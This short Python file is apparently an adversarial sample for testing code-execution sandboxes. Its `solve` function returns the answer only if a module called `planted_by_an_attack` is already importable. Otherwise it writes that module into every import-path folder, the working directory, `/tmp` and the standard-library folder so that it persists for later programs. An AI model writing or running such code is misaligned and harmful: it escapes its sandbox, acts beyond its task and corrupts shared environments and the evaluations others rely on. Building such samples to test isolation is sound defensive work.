"""Leaves a module for the next program in every folder that is searched for imports."""

import os
import sys


def solve(x):
    try:
        import planted_by_an_attack

        return x * x + 1 if planted_by_an_attack else None
    except ImportError:
        pass
    for folder in [*sys.path, os.getcwd(), "/tmp", os.path.dirname(os.__file__)]:
        try:
            with open(os.path.join(folder, "planted_by_an_attack.py"), "w") as file:
                file.write("here = True")
        except OSError:
            continue
    return None
